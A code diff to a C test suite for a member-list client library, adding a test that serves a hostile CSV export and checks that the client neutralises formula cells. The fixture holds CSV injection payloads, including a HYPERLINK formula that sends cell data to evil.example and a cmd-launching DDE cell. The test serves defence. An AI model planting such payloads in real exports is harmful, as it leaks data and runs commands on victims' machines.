@@ -360,6 +360,10 @@ test_random_access (void)
     g_clear_object (&passed);
     stopped = g_list_model_get_item (model, 300);
     quorum_test_wait_for (traffic.messages->len == 2, QUORUM_TEST_WAIT_SECONDS);
+    /* The cancelled fetch leaves the session before the server can
+     * answer it: cancelling is only handled on a later main loop turn. */
+    quorum_test_wait_for (traffic.unqueued == 1, QUORUM_TEST_WAIT_SECONDS);
+    g_assert_cmpuint (traffic.answered, ==, 0);
     quorum_test_server_resume (server);
     wait_idle (list);
     quorum_test_wait_for (traffic.unqueued == 2, QUORUM_TEST_WAIT_SECONDS);
@@ -1164,6 +1168,80 @@ test_export_to_file (void)
   g_assert_cmpint (g_rmdir (dir), ==, 0);
 }
 
+/* A hostile server's export, in chunks that cut cells and doubled quotes
+ * in two: formula cells arrive as they are (our server would have put a '
+ * in front of each). */
+static const char * const hostile_csv[] = {
+  "name,email,role,status,joined_at,last_active_at\r\n",
+  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\"),a@example.org,member,active,2026-11-22T10:43:14Z,\r\n",
+  "\"+cmd|' /C calc'!A0\",\"@SUM(1+1)\",-2,\tx,\r",
+  "\n\"\"\"=quoted\",\"b",
+  "@example.org\",admin,\"",
+  "-1\",\"'=already\",",
+  "=last\r\n",
+};
+
+static const char hostile_csv_saved[] =
+  "name,email,role,status,joined_at,last_active_at\r\n"
+  "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\"),a@example.org,member,active,2026-11-22T10:43:14Z,\r\n"
+  "\"'+cmd|' /C calc'!A0\",\"'@SUM(1+1)\",'-2,'\tx,\r\n"
+  "\"\"\"=quoted\",\"b@example.org\",admin,\"'-1\",\"'=already\",'=last\r\n";
+
+static void
+hostile_export_cb (SoupServer        *soup_server,
+                   SoupServerMessage *msg,
+                   const char        *path,
+                   GHashTable        *query,
+                   gpointer           user_data)
+{
+  SoupMessageHeaders *headers = soup_server_message_get_response_headers (msg);
+  SoupMessageBody *body = soup_server_message_get_response_body (msg);
+
+  soup_server_message_set_status (msg, 200, NULL);
+  soup_message_headers_set_content_type (headers, "text/csv", NULL);
+  soup_message_headers_set_encoding (headers, SOUP_ENCODING_CHUNKED);
+  for (guint i = 0; i < G_N_ELEMENTS (hostile_csv); i++)
+    soup_message_body_append (body, SOUP_MEMORY_STATIC, hostile_csv[i], strlen (hostile_csv[i]));
+  soup_message_body_complete (body);
+}
+
+/* The app does not trust the server to neutralise formula cells: a
+ * hostile server's =, +, -, @, tab and CR cells are saved with a ' in
+ * front, quoted or not, wherever the chunks were cut; cells already
+ * neutralised and formula characters inside a cell are left alone. */
+static void
+test_export_hostile_csv (void)
+{
+  g_autoptr(SoupServer) soup_server = soup_server_new (NULL, NULL);
+  g_autofree char *url = NULL;
+  g_autoptr(QuorumClient) client = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("quorum-export-XXXXXX", NULL);
+  g_autofree char *path = g_build_filename (dir, "members.csv", NULL);
+  g_autoptr(GFile) file = g_file_new_for_path (path);
+  g_autoptr(GAsyncResult) result = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *contents = NULL;
+  gsize length = 0;
+  gssize written;
+  guint rows = 0;
+
+  soup_server_add_handler (soup_server, "/v1/organizations/org_1/members/export", hostile_export_cb, NULL, NULL);
+  url = quorum_test_soup_listen (soup_server, 0);
+  client = quorum_client_new (url);
+
+  quorum_client_save_members_csv_async (client, "org_1", NULL, file, NULL, NULL, NULL,
+                                        quorum_test_store_result, &result);
+  written = quorum_client_save_members_csv_finish (client, quorum_test_wait_result (&result), &rows, &error);
+  g_assert_no_error (error);
+  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
+  g_assert_cmpstr (contents, ==, hostile_csv_saved);
+  g_assert_cmpint (written, ==, (gssize) length);
+  g_assert_cmpuint (rows, ==, 3);
+
+  g_assert_true (g_file_delete (file, NULL, NULL));
+  g_assert_cmpint (g_rmdir (dir), ==, 0);
+}
+
 static void
 test_query_change_cancels_fetch (void)
 {
@@ -1378,6 +1456,7 @@ main (int   argc,
   g_test_add_func ("/api/member-list/inactive-and-sort", test_inactive_and_sort);
   g_test_add_func ("/api/member-list/export", test_export);
   g_test_add_func ("/api/member-list/export-to-file", test_export_to_file);
+  g_test_add_func ("/api/member-list/export-hostile-csv", test_export_hostile_csv);
   g_test_add_func ("/api/member-list/query-change-cancels-fetch", test_query_change_cancels_fetch);
   g_test_add_func ("/api/member-list/bounded", test_bounded);
   g_test_add_func ("/api/member-list/refetch-cancelled-by-query", test_refetch_cancelled_by_query);
